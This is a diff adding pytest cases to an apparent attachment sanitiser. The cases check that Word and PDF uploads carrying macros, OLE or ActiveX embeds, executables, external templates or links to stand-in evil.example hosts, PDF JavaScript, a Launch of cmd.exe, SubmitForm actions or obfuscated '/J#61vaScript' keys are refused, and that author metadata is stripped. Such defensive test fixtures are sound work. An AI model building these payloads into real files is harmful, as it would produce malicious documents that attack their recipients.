@@ -5,11 +5,14 @@ import time
 import wave
 import zlib
 from io import BytesIO
+from zipfile import ZipFile
 
 import pytest
+from docx import Document
 from hypothesis import given, settings
 from hypothesis import strategies as st
 from PIL import Image, ImageSequence
+from python_calamine import load_workbook
 
 from bihuan.attachments import rules
 from bihuan.attachments.rules import admit, names
@@ -19,7 +22,22 @@ from bihuan.attachments.types import ENDINGS, Admitted, FileKind, Held
 from bihuan.kernel.refusal import Refusal
 from bihuan.policy import norms
 
-from .conftest import SAMPLES, SECRET, archive, blank, box, docx, flicker, moving, mp3, mp4, picture, wav
+from .conftest import (
+    SAMPLES,
+    SECRET,
+    archive,
+    blank,
+    box,
+    docx,
+    flicker,
+    moving,
+    mp3,
+    mp4,
+    pdf,
+    picture,
+    related,
+    wav,
+)
 
 MB = 1024 * 1024
 PICTURES = [FileKind.JPEG, FileKind.PNG, FileKind.WEBP, FileKind.GIF]
@@ -220,6 +238,95 @@ def test_an_office_file_with_macros_a_password_or_a_way_out_is_refused() -> None
     assert "结构异常" in refused(archive(parts() | {"../../etc/passwd": b"x"}), "a.docx")
     locked = docx().replace(b"PK\x01\x02\x14\x03\x14\x00\x00\x00", b"PK\x01\x02\x14\x03\x14\x00\x01\x00")
     assert "密码" in refused(locked, "a.docx")
+
+
+OFFICE = "application/vnd.openxmlformats-officedocument"
+OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(64)
+
+
+@pytest.mark.parametrize(
+    ("content", "reason"),
+    [
+        (related(("vbaProject", "media/a.png", "")), "宏"),
+        (related(types='<Override PartName="/word/a.xml" ContentType="application/vnd.ms-word.vbaData+xml"/>'), "宏"),
+        (related(types='<Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>'), "宏"),
+        (related(types='<Default Extension="x" ContentType="application/vnd.ms-office.vbaProject"/>'), "宏"),
+        (related(("oleObject", "embeddings/a.bin", "")), "嵌有"),
+        (related(("package", "embeddings/a.xlsx", "")), "嵌有"),
+        (related(("control", "activeX/a.xml", "")), "嵌有"),
+        (related(types=f'<Default Extension="b" ContentType="{OFFICE}.oleObject"/>'), "嵌有"),
+        (related(("attachedTemplate", "https://evil.example/a.dotm", "External")), "外部模板"),
+        (related(("image", "https://evil.example/a.png", "External")), "外部的图片"),
+        (related(("hyperlink", "file://evil/share", "External")), "外部的图片"),
+        (related(("hyperlink", "\\\\evil\\share", "External")), "外部的图片"),
+        (related(("hyperlink", "javascript:alert(1)", "external")), "外部的图片"),
+        (related(word__media__a=archive({"x": b"x"})), "压缩包"),
+        (related(word__media__a=b"MZ" + bytes(60)), "程序"),
+        (related(word__media__a=OLE), "OLE"),
+        (docx(**{"word__b.rels": b"<!DOCTYPE a [<!ENTITY b 'c'>]><a>&b;</a>"}), "结构异常"),
+        (docx(**{"word__b.rels": b"<a"}), "结构异常"),
+    ],
+)  # fmt: skip
+def test_an_office_file_that_acts_carries_others_or_leads_elsewhere_is_refused(content: bytes, reason: str) -> None:
+    assert reason in refused(content, "a.docx")
+
+
+def test_an_office_file_keeps_its_text_pictures_and_links_and_loses_author_and_company() -> None:
+    picture = SAMPLES[FileKind.PNG].replace(SECRET, b"")
+    content = related(
+        ("hyperlink", "https://www.gov.cn/", "External"), ("image", "media/a.png", ""), word__media__a=picture
+    )
+    assert SECRET in ZipFile(BytesIO(content)).read("docProps/core.xml")
+    kept = ZipFile(BytesIO(admitted(content, FileKind.DOCX).content))
+    assert kept.testzip() is None
+    assert SECRET not in b"".join(kept.read(name) for name in kept.namelist())
+    assert kept.namelist() == ZipFile(BytesIO(content)).namelist()
+    assert kept.read("word/media/a") == picture
+    assert "答复" in kept.read("word/document.xml").decode()
+
+
+def test_files_as_office_writes_them_can_still_be_opened() -> None:
+    paper, out = Document(), BytesIO()
+    paper.add_paragraph("答复")
+    paper.core_properties.author = "张某某"
+    paper.save(out)
+    kept = Document(BytesIO(admitted(out.getvalue(), FileKind.DOCX).content))
+    assert (kept.paragraphs[0].text, kept.core_properties.author) == ("答复", "")
+    sheet = load_workbook(BytesIO(admitted(SAMPLES[FileKind.XLSX], FileKind.XLSX).content))
+    assert next(iter(sheet.get_sheet_by_index(0).to_python())) == ["编号", "答复"]
+
+
+def packed(content: bytes, more: bytes = b"/Filter /FlateDecode") -> bytes:
+    body = zlib.compress(content)
+    return b"<< /Type /ObjStm /N 1 /First 4 %s /Length %d >>\nstream\n%s\nendstream" % (more, len(body), body)
+
+
+@pytest.mark.parametrize(
+    ("content", "reason"),
+    [
+        (pdf(b"<< /OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >> >>"), "脚本"),
+        (pdf(b"<< /S /J#61vaScript /JS (x) >>"), "脚本"),
+        (pdf(b"<< /AA << /O << /S /Launch /F (cmd.exe) >> >> >>"), "动作"),
+        (pdf(b"<< /A << /S /SubmitForm /F (http://evil.example) >> >>"), "动作"),
+        (pdf(b"<< /A << /S /GoToR /F (//evil/share) >> >>"), "动作"),
+        (pdf(b"<< /Type /EmbeddedFile >>"), "夹带"),
+        (pdf(b"<< /Names << /EmbeddedFiles 5 0 R >> >>"), "夹带"),
+        (pdf(packed(b"1 0 << /S /JavaScript /JS (x) >>")), "脚本"),
+        (pdf(packed(b"1 0 << /S /Java#53cript /JS (x) >>", b"/Filter [ /FlateDecode ]")), "脚本"),
+        (pdf(packed(b"1 0 << >>", b"/Filter /LZWDecode")), "结构异常"),
+        (pdf(packed(bytes(70 * MB))), "结构异常"),
+        (pdf(b"<< >>").replace(b"trailer<<>>", b"trailer<< /Encrypt 9 0 R >>"), "密码"),
+    ],
+)
+def test_a_pdf_that_acts_or_carries_others_is_refused(content: bytes, reason: str) -> None:
+    assert reason in refused(content, "a.pdf")
+
+
+def test_a_pdf_that_opens_at_a_page_and_links_to_the_web_is_taken() -> None:
+    content = pdf(
+        b"<< /OpenAction [3 0 R /Fit] >>", b"<< /A << /S /URI /URI (https://www.gov.cn/) >> >>", packed(b"1 0 << >>")
+    )
+    assert admitted(content, FileKind.PDF).content == content
 
 
 def test_blanking_a_film_moves_nothing_in_it() -> None:
